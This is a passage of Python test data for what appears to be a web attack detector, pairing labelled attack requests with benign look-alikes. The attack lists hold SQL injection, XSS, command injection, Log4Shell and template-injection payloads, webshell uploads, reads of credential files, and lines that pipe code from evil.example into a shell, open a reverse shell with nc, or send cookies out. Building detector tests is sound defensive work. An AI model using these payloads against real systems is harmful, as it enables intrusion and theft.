    out.append(("nosql", "POST", "/api/login", JSON_HEADERS,
                b'{"user": "admin", "password": {"$where": "sleep(5000)"}}'))
    for probe in ("/.env", "/.git/config", "/wp-login.php", "/xmlrpc.php", "/wp-admin/setup-config.php",
                  "/phpmyadmin/index.php", "/.aws/credentials", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
                  "/server-status", "/backup.sql", "/.DS_Store", "/config.php.bak", "/cgi-bin/test.cgi",
                  "/.env.production", "/actuator/env", "/_ignition/execute-solution", "/.ssh/id_rsa",
                  "/boaform/admin/formLogin", "/.svn/entries", "/index.php.swp"):
        out.append(_get("probe", probe))
    for agent in ("sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6)",
                  "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
                  "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
                  "Mozilla/5.0 zgrab/0.x", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
                  "Fuzz Faster U Fool v2.0.0", "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
                  "gobuster/3.6", "Wfuzz/3.1.0", "Acunetix-WVS", "Mozilla/5.0 (compatible; Netsparker)"):
        out.append(_get("scanner", "/", {"user-agent": agent}))
    out.append(("protocol", "TRACE", "/", BROWSER, b""))
    out.append(("protocol", "GET", "/", {**BROWSER, "host": ""}, b""))  # Host removed by the harness
    out.append(("protocol", "POST", "/api/items",
                {**JSON_HEADERS, "content-length": "5", "transfer-encoding": "chunked"}, b"{}"))
    out.append(("protocol", "GET", "/", {**BROWSER, "x-big": "a" * 9000}, b""))
    out.append(("protocol", "GET", "/search?q=a%00b", BROWSER, b""))
    # Uploads of server-side scripts (the name alone decides), and a name with a traversal.
    for filename, content in (("shell.php", b"<?php system($_GET['c']); ?>"), ("avatar.pHtml", b"GIF89a"),
                              ("../../../var/www/html/x.php", b"x"), ("doc.jsp", b"<% out.println(1); %>")):
        out.append(("upload", "POST", "/upload", {**BROWSER, "content-type": _UPLOAD},
                    _multipart([("file", filename, content)])))
    out += [_located("added", value, where) for value in ADDED_LATER_ATTACKS + EVASIONS
            for where in ("query", "form", "cookie")]
    return out + located_attacks() + fresh_attacks()


def benign() -> list[Entry]:
    """Return the legitimate requests."""
    searches = [
        "O'Brien", "Conan O'Brien tour dates", "rock 'n' roll", "don't stop believin'",
        "\"exact phrase\" search", "it's 5 o'clock somewhere", "Tom & Jerry", "C++ tutorial",
        "select a bike for commuting", "drop shipping business", "union jack flag",
        "how to delete a facebook account", "1 or 2 bedrooms", "5' 11\" in cm", "null pointer exception",
        "price < 100", "a+b=c", "50% off", "café crème", "Москва погода", "東京 ラーメン", "#hashtag",
        "email@example.com", "https://example.com/page?x=1", "script writing course",
        "alert box css", "where is the closest pharmacy", "or and not", "1=1 meaning",
        "java script tutorial", "order by date", "cat food; dog food", "sleep apnea",
        "Who's there? It's me!", "semi;colon", "../ relative paths explained", "the <b> tag",
        "eval in python", "what does SELECT do in SQL", "D'Angelo", "L'Oréal", "McDonald's",
    ]
    out: list[Entry] = [_arg("benign", term, "q", "/s") for term in HOLDOUT_BENIGN]
    out += [_arg("benign", term, "q", "/s") for term in SECOND_HOLDOUT_BENIGN]
    out += [_arg("benign", term, "q", "/s") for term in ADDED_CLASS_BENIGN]
    for content_type, body in SECOND_HOLDOUT_BODIES:
        out.append(("benign", "POST", "/api/notes", {**BROWSER, "content-type": content_type}, body))
    for term in searches:
        out.append(_arg("benign", term))
    for path in ("/", "/index.html", "/about", "/products/42", "/blog/2024/05/hello-world",
                 "/static/css/site.v3.css", "/static/js/app.min.js", "/images/logo@2x.png",
                 "/api/v1/users/123/orders?page=2&per_page=50&sort=-created_at",
                 "/api/v2/search?q=shoes&filter[color]=red&filter[size]=42",
                 "/docs/getting-started#install", "/favicon.ico", "/robots.txt", "/sitemap.xml",
                 "/.well-known/security.txt", "/.well-known/openid-configuration",
                 "/u/j%C3%BCrgen", "/files/report%20Q1%202024.pdf", "/tags/c%23", "/wiki/Rock_%26_Roll",
                 "/p/a-b_c.d~e", "/health", "/callback?code=4%2F0AX4XfWh&state=xyz",
                 "/track?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale",
                 "/redirect?next=%2Fdashboard%3Ftab%3Dsettings",
                 "/login?return_to=https%3A%2F%2Fapp.example.com%2Fhome",
                 "/maps?ll=40.7128,-74.0060&z=12", "/calendar?from=2024-01-01T00:00:00Z&to=2024-12-31",
                 "/search?q=%22new+york%22+hotels", "/api/items?ids=1,2,3&fields=id,name",
                 "/img?url=https%3A%2F%2Fcdn.example.com%2Fa.png&w=300"):
        out.append(_get("benign", path))
    out.append(_get("benign", "/", {"cookie": "session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.sig; "
                                              "theme=dark; _ga=GA1.2.12345.67890; consent=%7B%22ads%22%3Afalse%7D"}))
    out.append(_get("benign", "/", {"referer": "https://www.google.com/search?q=o%27brien+tickets"}))
    out.append(_get("benign", "/api/me", {"authorization": "Bearer eyJhbGciOiJSUzI1NiJ9.e30.c2ln",
                                          "accept": "application/json"}))
    out.append(_get("benign", "/", {"if-none-match": 'W/"5e-abc"', "cache-control": "no-cache"}))
    out.append(("benign", "HEAD", "/", BROWSER, b""))
    out.append(("benign", "OPTIONS", "/api/items", {**BROWSER, "origin": "https://app.example.com",
                                                    "access-control-request-method": "POST"}, b""))
    json_bodies = [
        b'{"name": "Conan O\'Brien", "email": "conan@example.com", "age": 60}',
        b'{"query": "shoes", "filters": {"price": {"min": 10, "max": 100}}, "sort": "price"}',
        b'{"title": "My post", "body": "# Heading\\n\\nSome *markdown* with a [link](https://example.com) '
        b'and `code`.\\n\\n- item 1\\n- item 2\\n\\n> quote"}',
        b'{"snippet": "def add(a, b):\\n    return a + b\\n\\nprint(add(1, 2))"}',
        b'{"snippet": "for (let i = 0; i < n; i++) { if (a[i] > max && ok) { max = a[i]; } }"}',
        b'{"snippet": "SELECT name, email FROM customers WHERE country = \'DE\' ORDER BY name;"}',
        b'{"comment": "I don\'t think 1 + 1 = 2 is always true in every field, or is it?"}',
        b'{"html": "<p>Hello <b>world</b>, see <a href=\\"https://example.com\\">this</a></p>"}',
        b'{"address": "12 O\'Connell St; Apt 3 & 4, Dublin"}',
        b'{"password": "p@ss\'w0rd\\"--;#", "remember": true}',
        b'{"items": [{"sku": "A-1", "qty": 2}, {"sku": "B-2", "qty": 1}], "coupon": "SPRING-10%"}',
        b'{"template": "Hello {{name}}, your order {{order_id}} has shipped."}',
        b'{"message": "Run `npm install` then `npm run build`. If it fails, rm -rf node_modules."}',
        b'{"readme": "Usage: curl -s https://api.example.com/v1/items | jq .", "lang": "en"}',
        b'{"regex": "^[a-z0-9._%+-]+@[a-z0-9.-]+\\\\.[a-z]{2,}$"}',
        b'{"description": "The union of two sets; select the items from the list below."}',
        b'{"code": "import os\\nprint(os.getcwd())"}',
        b'{"query": "{ user(id: 1) { name posts { title } } }"}',
        b'{"note": "Meet at 5 o\'clock; bring the \\"big\\" box & the keys."}',
        b'{"url": "https://example.com/callback?token=abc&next=/home"}',
    ]
    for body in json_bodies:
        out.append(("benign", "POST", "/api/posts", JSON_HEADERS, body))
    forms = [
        "name=Conan+O%27Brien&email=conan%40example.com&message=Hi%2C+I%27d+like+a+quote.",
        "q=O%27Reilly+books&category=all",
        "username=jdoe&password=Tr0ub4dor%263&remember=on",
        "comment=Great+article%21+I+especially+liked+the+part+about+%22select%22+queries.",
        "address=1+Main+St.%2C+Apt+%234&city=Springfield&zip=12345",
        "bio=I+love+C%2B%2B+%26+Python%3B+also+cats.",
    ]
    for body in forms:
        out.append(("benign", "POST", "/contact", FORM_HEADERS, body.encode()))
    out.append(("benign", "PUT", "/api/items/7", JSON_HEADERS, b'{"name": "Widget", "price": 9.99}'))
    out.append(("benign", "PATCH", "/api/items/7", JSON_HEADERS, b'{"price": 10.49}'))
    out.append(("benign", "DELETE", "/api/items/7", JSON_HEADERS, b""))
    out.append(("benign", "POST", "/upload", {**BROWSER, "content-type":
                "multipart/form-data; boundary=XyZ"},
                b"--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"photo.jpg\"\r\n"
                b"Content-Type: image/jpeg\r\n\r\n\xff\xd8\xff\xe0binary\r\n--XyZ--\r\n"))
    for agent in ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 "
                  "(KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
                  "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
                  "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/537.36 (KHTML, like Gecko) "
                  "Chrome/124.0 Safari/537.36 Edg/124.0",
                  "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"):
        out.append(_get("benign", "/", {"user-agent": agent}))
    out += [_located("benign", value, where) for value in ADDED_LATER_BENIGN
            for where in ("query", "form", "json")]
    return out + located_benign() + benign_requests() + fresh_benign()


# A fourth set, written as public regression suites write theirs (one payload per request, sent
# in a query value, an argument name, a form, JSON, multipart or XML body, a cookie, a header,
# the path) and first run before the signatures were revised for it. Every payload is sent in
# several places; see ``located_attacks``.
LOCATED_ATTACKS = [
    # sqli
    "1' or '1'='1'--", "1 union all select null,version()--", "' UNION SELECT 1,@@version,3#",
    "1; DROP TABLE users--", "admin' AND 1=1--", "1 AND SLEEP(5)", "1' AND BENCHMARK(1000000,SHA1(1))#",
    "1 regexp 0x5e61", "x' or name regexp '^adm'--", "1' and row(1,1)>(select count(*),1)--",
    "1 and (select 1 from pg_sleep(5))", "1' OR 1=1 LIMIT 1;--", "';select pg_sleep(5);--",
    "1)) or ((1=1", "' or 1 in (select @@version)--", "1 /*!12345union*/ select 1",
    "1'%09or%091=1--", "1 || 1=1", "' or 'a'<'b", "0 or 3>2-- -",
    # xss
    "<script>alert('xss')</script>", "<img src=x onerror=alert(document.domain)>",
    "<svg onload=alert(1)//", "<a href=javascript:alert(1)>x", "\"><img src=x onerror=prompt(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>", "<body onload=alert(1)>",
    "<input onfocus=alert(1) autofocus>", "<img src=\"x\" onerror=\"alert(String.fromCharCode(88))\">",
    "<sCrIpT>alert(1)</ScRiPt>", "<img/src=x/onerror=alert(1)>", "javascript&colon;alert(1)",
    # traversal / sensitive files
    "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "....//....//etc/shadow",
    "/etc/passwd", "..\\..\\..\\windows\\win.ini", ".htaccess", ".env", ".git/config",
    "wp-config.php.bak", "id_rsa", "/.aws/credentials", ".htpasswd", "web.config", "/.ssh/id_rsa",
    "/server-status", "/actuator/env", ".bash_history", "/proc/self/environ", "/etc/hosts",
    "database.yml", ".DS_Store", "config.php~", "/.git/HEAD", ".npmrc",
    # rce
    ";cat /etc/passwd", "|id", "$(id)", "`whoami`", "; ls -la", "&& cat /etc/shadow",
    "; nc -e /bin/sh 10.0.0.1 4444", "| curl http://evil.example/x | sh", ";wget http://evil.example/x",
    "; sleep 5", "a|ping -c 4 127.0.0.1", "; /usr/bin/id", "& ipconfig /all", "| dir c:\\",
    "() { :; }; /bin/bash -c 'cat /etc/passwd'", "c\\at /etc/passwd", "/???/??t /???/p??s??",
    # php / java / node / templates
    "<?php system('id'); ?>", "<?= `id` ?>", "php://input", "php://filter/read=convert.base64-encode/resource=/etc/passwd",
    "${jndi:ldap://evil.example/x}", "${${lower:j}${lower:n}di:ldap://x/a}", "{{7*7}}", "${7*7}",
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
    "java.lang.Runtime.getRuntime().exec(\"id\")", "T(java.lang.Runtime).getRuntime().exec('id')",
    # nosql
    "{\"$gt\":\"\"}", "{\"$ne\":null}", "{\"$where\":\"sleep(1000)\"}", "'; return true; //",
    "db.users.find({})", "true, $where: '1 == 1'", "{\"$regex\":\".*\"}",
    # ssrf / xxe / crlf / ldap / ssi
    "http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:22/", "gopher://localhost:25/_HELO",
    "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
    "%0d%0aSet-Cookie:%20sess=1", "foo%0d%0aLocation:%20http://evil.example",
    "\u560a\u560dSet-Cookie: a=1", "*)(uid=*))(|(uid=*", "<!--#exec cmd=\"id\"-->",
]
LOCATED_BENIGN = [
    "O'Brien", "Rock 'n' Roll", "Don't stop me now", "select a plan that fits", "drop-off location",
    "union square san francisco", "delete account", "update my address", "insert coin",
    "\"quoted phrase\" search", "5' 10\" height", "Q&A session", "a+b", "x OR y", "NOT NULL",
    "order by price", "group by category", "1,2,3", "100%", "30% off -- today only",
    "C:\\Program Files\\App", "https://example.com/path?x=1&y=2", "mailto:bob@example.com",
    "user@example.com", "+1 (555) 010-9999", "2024-05-01T12:00:00Z", "3f2504e0-4f89-11d3-9a0c-0305e82c3301",
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4ifQ."
    "SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
    "dGhpcyBpcyBhIGxvbmcgYmFzZTY0IHRva2VuIHdpdGggcGFkZGluZw==", "SGVsbG8sIFdvcmxkIQ/+x9==",
    "L'été à Paris", "Größe: 42 – Straße", "こんにちは世界", "東京都渋谷区", "naïve café",
    "Wie geht's?", "C'est la vie", "it's a 'test'", "he said: \"hi\"; she left",
    "if (a < b) return;", "x => x * 2", "print('hello')", "SELECT name FROM users",
    "git checkout -b feature/login", "npm install --save react", "docker run -p 80:80 nginx",
    "<b>bold</b> text", "**markdown** _italic_", "# Heading", "[link](https://example.com)",
    "1 + 1 = 2", "a && b || c", "price >= 10 and price <= 20", "true", "null", "{}", "[]",
    "/home/user/docs/report.pdf", "config.yaml", "env", "readme.md",
    "#ff0000", "rgba(0, 0, 0, 0.5)", "font-family: 'Helvetica Neue', Arial", "10:30 AM",
    "sleep well", "cat and mouse", "ping me", "who am i", "id card", "echo chamber",
    "The quick brown fox; jumps over the lazy dog", "Bob's burgers & fries", "fish 'n' chips",
]


_LOCATIONS = ("name", "multipart", "xml", "user-agent", "referer", "header", "path")


def _located(label: str, value: str, where: str) -> Entry:
    line = value.replace("\r", "").replace("\n", "")
    if where == "query":
        return _get(label, "/s?q=" + q(value))
    if where == "name":
        return _get(label, "/s?" + q(value) + "=1")
    if where == "form":
        return (label, "POST", "/s", FORM_HEADERS, ("a=1&q=" + q(value)).encode())
    if where == "json":
        return (label, "POST", "/api/s", JSON_HEADERS, json.dumps({"id": 7, "q": value}).encode())
    if where == "multipart":
        body = ("--b0undary\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n" + value
                + "\r\n--b0undary--\r\n")
        return (label, "POST", "/s", {**BROWSER, "content-type":
                                      "multipart/form-data; boundary=b0undary"}, body.encode())
    if where == "xml":
        text = value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        return (label, "POST", "/api/s", {**BROWSER, "content-type": "application/xml"},
                f"<?xml version=\"1.0\"?><req><q>{text}</q></req>".encode())
    if where == "cookie":
        return _get(label, "/s", {"cookie": "sid=5f2a9c; q=" + q(value)})
    if where == "user-agent":
        return _get(label, "/s", {"user-agent": line})
    if where == "referer":
        return _get(label, "/s", {"referer": "https://www.example.org/?q=" + q(value)})
    if where == "header":
        return _get(label, "/s", {"x-api-filter": line})
    assert where == "path"
    return _get(label, "/s/" + q(value))


def located_attacks() -> list[Entry]:
    """Return LOCATED_ATTACKS in a query, a form, JSON, a cookie, and one more place each."""
    out = []
    for i, value in enumerate(LOCATED_ATTACKS):
        for where in ("query", "form", "json", "cookie", _LOCATIONS[i % len(_LOCATIONS)]):
            out.append(_located("located-" + where, value, where))
    return out


def located_benign() -> list[Entry]:
    """Return LOCATED_BENIGN in a query, a form, JSON, and one more place each."""
    out = []
    for i, value in enumerate(LOCATED_BENIGN):
        for where in ("query", "form", "json", _LOCATIONS[i % len(_LOCATIONS)]):
            out.append(_located("benign", value, where))
    return out


# Whole benign requests of the kinds the fourth set's locations see on real sites, written
# with it: browser uploads, API bodies, referers carrying searches, many cookies and headers.
_CHROME = {
    **BROWSER, "sec-ch-ua": '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"',
    "sec-ch-ua-full-version-list": '"Chromium";v="124.0.6367.91", "Google Chrome";v="124.0.6367.91"',
    "sec-ch-ua-arch": '"x86"', "sec-ch-ua-model": '""', "sec-ch-ua-platform-version": '"15.0.0"',
    "sec-fetch-site": "same-origin", "sec-fetch-mode": "navigate", "upgrade-insecure-requests": "1",
    "accept-encoding": "gzip, deflate, br, zstd", "priority": "u=0, i",
}
_UPLOAD = "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"


def _multipart(fields: list[tuple[str, str | None, bytes]]) -> bytes:
    out = b""
    for name, filename, content in fields:
        out += b"------WebKitFormBoundary7MA4YWxkTrZu0gW\r\n"
        disposition = f'Content-Disposition: form-data; name="{name}"'
        if filename is not None:
            disposition += f'; filename="{filename}"\r\nContent-Type: application/octet-stream'
        out += disposition.encode() + b"\r\n\r\n" + content + b"\r\n"
    return out + b"------WebKitFormBoundary7MA4YWxkTrZu0gW--\r\n"


def benign_requests() -> list[Entry]:
    """Return whole benign requests: uploads, API bodies, referers, cookies, headers, paths."""
    out: list[Entry] = []
    for path in ("/wiki/O%27Brien_(surname)", "/search/rock%20%26%20roll", "/blog/why-select-union-matters",
                 "/docs/api/v2/users/%7Bid%7D", "/p/caf%C3%A9-cr%C3%A8me", "/t/how-to-use-%60git-rebase%60",
                 "/u/@jdoe", "/files/Q1%20report%20(final).pdf", "/tag/c%2B%2B", "/a/b;jsessionid=A1B2C3",
                 "/shop/men's-shoes", "/recipes/fish-'n'-chips", "/%E6%9D%B1%E4%BA%AC/%E3%83%A9%E3%83%BC%E3%83%A1%E3%83%B3",
                 "/s/who%20am%20i", "/q/what%20is%201%3D1", "/download/setup-1.2.3.exe",
                 "/api/v1/items/3f2504e0-4f89-11d3-9a0c-0305e82c3301", "/.well-known/assetlinks.json",
                 "/static/app.js.map", "/en-US/docs/Web/API/Document/cookie", "/search/onload%20event"):
        out.append(_get("benign", path, _CHROME))
    for referer in ("https://www.google.com/search?q=o%27brien+tickets&oq=o%27brien&sourceid=chrome",
                    "https://duckduckgo.com/?q=%22select+a+plan%22+pricing&ia=web",
                    "https://www.bing.com/search?q=how+to+delete+my+account&form=QBLH",
                    "https://shop.example.com/cart?coupon=SPRING-10%25&items=1,2,3",
                    "https://t.co/AbC123xyz", "https://news.ycombinator.com/item?id=40000000",
                    "https://www.example.de/suche?q=Gr%C3%B6%C3%9Fe+%26+Stra%C3%9Fe",
                    "https://www.example.jp/?q=%E6%9D%B1%E4%BA%AC+%E3%83%A9%E3%83%BC%E3%83%A1%E3%83%B3",
                    "https://mail.example.com/#inbox/FMfcgzGxyz",
                    "https://app.example.com/login?next=%2Fdashboard%3Ftab%3Dsettings%26q%3Da%2Bb"):
        out.append(_get("benign", "/", {**_CHROME, "referer": referer}))
    for cookie in ("_ga=GA1.1.1234567890.1700000000; _ga_ABC123=GS1.1.1700000000.1.0.1700000000.0.0.0",
                   "__Secure-next-auth.session-token=eyJhbGciOiJkaXIiLCJlbmMiOiJBMjU2R0NNIn0..abc.def.ghi",
                   "cart=%7B%22items%22%3A%5B%7B%22id%22%3A1%2C%22qty%22%3A2%7D%5D%7D; lang=fr-FR",
                   "prefs=theme:dark|font:large; tz=Europe/Berlin",
                   "AWSALB=Z3k2b1l0ZW1hZ2ljc3RyaW5nZm9ybG9hZGJhbGFuY2Vy+/abc==; cf_clearance=a.b-c_d",
                   "consent=%7B%22ads%22%3Afalse%2C%22analytics%22%3Atrue%7D; seen_banner=1",
                   "last_search=O%27Reilly%20books; recently_viewed=12,34,56",
                   'quoted="hello world"; plain=1'):
        out.append(_get("benign", "/", {**_CHROME, "cookie": cookie}))
    for name, value in (("x-requested-with", "XMLHttpRequest"), ("content-type", "text/plain;charset=UTF-8"),
                        ("x-csrf-token", "Fz3k9+/aQ=="), ("baggage", "sentry-environment=production,sentry-release=1.2.3"),
                        ("sentry-trace", "771a43a4192642f0b136d5159a501700-a9b1c2d3e4f5a6b7-1"),
                        ("x-client-data", "CIa2yQEIpbbJAQipncoBCLfeygE="), ("purpose", "prefetch"),
                        ("accept-language", "fr-CH, fr;q=0.9, en;q=0.8, de;q=0.7, *;q=0.5"),
                        ("authorization", "Basic YWxhZGRpbjpvcGVuc2VzYW1l"),
                        ("x-forwarded-for", "203.0.113.195, 70.41.3.18, 150.172.238.178"),
                        ("if-none-match", '"33a64df551425fcc55e4d42a148795d9f25f89d4"'),
                        ("x-search", "rock 'n' roll; live (1975)"), ("x-timezone", "America/New_York"),
                        ("x-amz-date", "20240501T120000Z"), ("x-github-event", "pull_request")):
        out.append(_get("benign", "/api/x", {**_CHROME, name: value}))
    uploads = [
        [("title", None, b"Holiday photos"), ("file", "IMG_2024 (1).jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(range(256)))],
        [("file", "report.pdf", b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n%%EOF")],
        [("file", "notes.txt", b"TODO: select a plan; drop the old one -- or not?\nL'\xc3\xa9t\xc3\xa9 \xc3\xa0 Paris\n")],
        [("file", "script.py", b"import os\nfor f in os.listdir('.'):\n    print(f)\n")],
        [("file", "data.csv", b"id,name,comment\n1,O'Brien,\"said \"\"hi\"\"; left\"\n2,Smith,<b>bold</b>\n")],
        [("avatar", "me.png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(64)), ("name", None, b"J\xc3\xbcrgen M\xc3\xbcller")],
        [("comment", None, b"Great post! I'd add that `SELECT ... FROM` needs an index."), ("email", None, b"a.b@example.co.uk")],
    ]
    for fields in uploads:
        out.append(("benign", "POST", "/upload", {**_CHROME, "content-type": _UPLOAD}, _multipart(fields)))
    bodies = [
        {"query": "mutation { updateUser(id: \"42\", input: {name: \"O'Brien\"}) { id } }"},
        {"token": "eyJhbGciOiJSUzI1NiIsImtpZCI6IjEifQ.eyJpc3MiOiJodHRwczovL2V4YW1wbGUuY29tIn0.c2lnbmF0dXJl"},
        {"id": "3f2504e0-4f89-11d3-9a0c-0305e82c3301", "email": "jane.doe+news@example.com"},
        {"avatar": "data:image/png;base64," + "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="},
        {"redirect_uri": "https://app.example.com/oauth/callback?state=xyz&next=/home", "scope": "openid email"},
        {"text": "Bonjour à tous ! L'équipe vous remercie ; « à bientôt »"},
        {"text": "Sehr geehrte Damen und Herren, die Größe ist 42 – bitte prüfen Sie die Straße."},
        {"text": "こんにちは。東京のラーメン屋を探しています（渋谷区）。"},
        {"markdown": "## Install\n\n```sh\npip install requests\n```\n\nThen `import requests` and call `requests.get(url)`.\n"},
        {"code": "const total = items.reduce((a, b) => a + b.price, 0); // sum"},
        {"code": "SELECT u.id, u.name FROM users u JOIN orders o ON o.user_id = u.id WHERE o.total > 100"},
        {"code": "<ul>\n  <li><a href=\"/a\">A</a></li>\n  <li><a href=\"/b\">B</a></li>\n</ul>"},
        {"comment": "Is 1=1 always true? Or 'a'='a'? Just curious how SQL works."},
        {"filter": {"status": "active", "created_after": "2024-01-01", "tags": ["a", "b"]}},
        {"search": "C:\\Users\\Public\\Documents", "sort": "-updated_at"},
        {"description": "Use the /etc/hosts file to map names, e.g. 127.0.0.1 localhost."},
        {"bio": "Dev @ACME | C++/Rust | he/him | 🦀"}, {"note": "50% off -- today only; don't miss it!"},
    ]
    for body in bodies:
        out.append(("benign", "POST", "/api/v1/things", JSON_HEADERS, json.dumps(body).encode()))
    forms = [
        "email=jane.doe%2Bnews%40example.com&password=c0rr3ct+h0rse%21&remember=1",
        "search=rock+%27n%27+roll&page=2",
        "message=Hi%21+Please+call+me+at+%2B1+%28555%29+010-9999%3B+thanks.&subject=Order+%2342",
        "text=L%27%C3%A9t%C3%A9+%C3%A0+Paris%2C+c%27est+magnifique+%21",
        "code=for+i+in+range%2810%29%3A%0D%0A++++print%28i%29%0D%0A",
        "url=https%3A%2F%2Fexample.com%2Fa%3Fb%3Dc%26d%3De&title=Example",
        "q=%22select+a+plan%22+OR+%22choose+a+plan%22",
    ]
    for form in forms:
        out.append(("benign", "POST", "/submit", {**_CHROME, "content-type":
                                                  "application/x-www-form-urlencoded"}, form.encode()))
    out.append(("benign", "POST", "/api/soap", {**_CHROME, "content-type": "text/xml; charset=utf-8"},
                b'<?xml version="1.0"?><Envelope><Body><GetPrice item="Widget &amp; Co">'
                b"<Note>O'Brien said 5 &lt; 6</Note></GetPrice></Body></Envelope>"))
    return out


# A fifth set, written after the signatures had been revised for the fourth and first run
# before any further change: level 1 then caught 174/196 and flagged 8/204 (the revision
# before it: 148/196 and 4/204; the 4 more were body fields, newly matched as arguments are).
FRESH_ATTACKS = [
    "1' AND 1=0 UNION ALL SELECT 'admin', '81dc9bdb52d04dc20036dbd8313ed055", "1;SELECT * FROM users",
    "SELECT pg_sleep(10);", "1 and extractvalue(0x0a,concat(0x0a,(select database())))",
    "' or 1=1 into outfile '/tmp/a'#", "-1 or 1=1#", "ELT(1,SLEEP(5))", "1 or 1 = 1", "' or ''-'",
    "1';select char(114,111,111,116)--", "1 and '1'='1", "(select 1 from dual where 1=1)",
    "10 AND LENGTH(database())>1", "admin' or '1'='1", "';WAITFOR DELAY '0:0:10'--",
    "1 AND 2>1", "1 having 1=1", "SELECT CASE WHEN (1=1) THEN 1 ELSE 0 END", "x' AND 'x' LIKE 'x",
    "<img src=x onerror=alert(1)//", "<svg><set onbegin=alert(1)>", "<a onmouseover=\"alert(1)\">x</a>",
    "\"><iframe onload=alert(1)>", "<object data=javascript:alert(1)>", "<div onpointerenter=alert(1)>x",
    "javascript:window.location='http://x.example'", "<script>fetch('//x.example?'+document.cookie)</script>",
    "<img src=\"javascript:alert(1)\">", "<style>@import'//evil.example/x'</style>", "<audio src=x onerror=alert(1)>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "'\"--></style></script><script>alert(1)</script>",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e", "%u003cscript%u003ealert(1)%u003c/script%u003e",
    "<x contenteditable onblur=alert(1)>lose focus", "<textarea autofocus onfocus=alert(1)>",
    "....//....//....//etc/group", "..%5c..%5c..%5cwindows%5cwin.ini", "%252e%252e%252fetc%252fpasswd",
    "/proc/version", "..\\..\\..\\..\\boot.ini", "/etc/mysql/my.cnf", "../../../../var/www/html/.htaccess",
    "C:/inetpub/wwwroot/web.config", "WEB-INF/web.xml", "/.svn/wc.db", "config/database.yml",
    ".env.bak", "storage/logs/laravel.log", ".git/HEAD",
    ";ls${IFS}-la", "|cat$IFS/etc/passwd", ";{cat,/etc/passwd}", "a;/bin/cat /etc/passwd",
    "127.0.0.1%0a/bin/ls", "& whoami &", ";echo 'hello'>/tmp/x", "$(curl -s evil.example|bash)",
    ";perl -e 'print 1'", "|| nc -lvp 4444", "; nslookup x.oast.example", ";chmod 777 /tmp/x",
    "& type C:\\windows\\win.ini", "| powershell Get-Process", "; curl evil.example/sh | sh",
    "${jndi:ldap://${env:USER}.x.example/a}", "${${::-j}ndi:rmi://x.example/a}",
    "${jndi:${lower:l}${lower:d}ap://x.example/a}", "class.module.classLoader.URLs[0]=0",
    "#{T(java.lang.Runtime).getRuntime().exec('id')}", "new java.lang.ProcessBuilder('id').start()",
    "<?php echo shell_exec($_GET['c']); ?>", "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+",
    "expect://ls", "O:4:\"User\":1:{s:4:\"name\";s:5:\"admin\";}", "system('ls');",
    "preg_replace('/.*/e','system(id)','')",
    "{\"$ne\": 1}", "{\"username\": {\"$regex\": \"^adm\"}}", "';sleep(5000);'", "this.password.match(/.*/)",
    "http://localhost:6379/", "http://[::1]:22/", "http://0.0.0.0:2375/containers/json",
    "http://169.254.169.254/computeMetadata/v1/", "file:///etc/passwd", "http://0177.0.0.1/",
    "${{7*7}}", "<%= 7*7 %>", "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
    "{{''.__class__}}", "${T(java.lang.System).getenv()}",
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "<!DOCTYPE r [<!ENTITY % a SYSTEM \"http://x.example/e.dtd\"> %a;]><r/>",
    "<xi:include href=\"file:///etc/passwd\" parse=\"text\"/>", "%0d%0aContent-Length:%200",
    "() { :; }; echo; echo vulnerable", "<!--#include virtual=\"/etc/passwd\"-->",
]
FRESH_BENIGN = [
    "Où est la gare ?", "Grüße aus Köln", "日本語のテキスト", "l'hôtel d'Orsay", "rock'n'roll",
    "SELECT Comfort mattress", "union members' rights", "drop table in excel", "order by relevance",
    "the 'and' operator", "1 = 1 is trivially true", "a < b > c", "Q: what's 2+2? A: 4",
    "#1 best seller", "50/50 chance", "R&B playlist", "$9.99/month", "user_name@sub.example.org",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s", "/var/www is the web root",
    "curl is a tool", "bash vs zsh", "Windows 11 system32 error", "ping 8.8.8.8 from cmd",
    "{{ title }} template help", "${HOME} variable", "echo $PATH", "cat > file.txt",
